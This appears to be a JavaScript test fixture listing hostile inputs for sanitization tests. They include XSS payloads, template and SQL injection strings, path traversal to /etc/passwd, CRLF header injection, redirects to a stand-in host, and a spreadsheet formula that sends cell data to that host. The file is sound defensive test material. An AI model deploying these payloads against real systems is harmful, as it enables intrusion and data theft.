// What attackers and careless feeds put where text belongs. Each, were it taken for more than text, would set __owned or ask another host.
const run = 'globalThis.__owned=1';

export const texts = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `"><svg onload=${run}>`,
  `'"><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">click</a>`,
  `<style>*{display:none}</style>`,
  `<base href="https://outside.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://outside.example/">`,
  `<form action="https://outside.example/"><input name=q></form>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `-->]]><!--`,
  `&lt;b&gt;already escaped&lt;/b&gt; &#60;`,
  `javascript:${run}`,
  `\u202eright to left\u202c \u0000\u0007 zero\u200bwidth \ufeff`.replaceAll('\u0000', ''),
  `Z\u0351\u036b\u0343\u036a\u0302a\u0337\u031b\u0321l\u0338\u0322g\u0335o\u0334 ${'e\u0301'.repeat(40)}`,
  '👩‍👩‍👧‍👦 𝕶𝖚𝖓𝖉𝖊 \ud83c\udff4',
  `=HYPERLINK("https://outside.example/?"&A1)`,
  `'; DROP TABLE product; --`,
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '%00%0d%0aSet-Cookie: a=b',
  'W'.repeat(900),
  'https://outside.example/' + 'a'.repeat(200),
];

export const long = `${'very long words '.repeat(640)}<script>${run}</script>`; // 10 kB and a little

const svg = (inside) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${inside}</svg>`;

// Pictures that would run a script or call outside if they were taken for a document. As an image none of it happens.
export const pictures = [
  svg(`onload="${run}"><rect width="40" height="40" fill="red"/>`),
  svg(`><script>${run}</script>`),
  svg('><image href="https://outside.example/track.png" width="40" height="40"/>'),
  svg('><foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://outside.example/"/></foreignObject>'),
].map((text) => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}`);
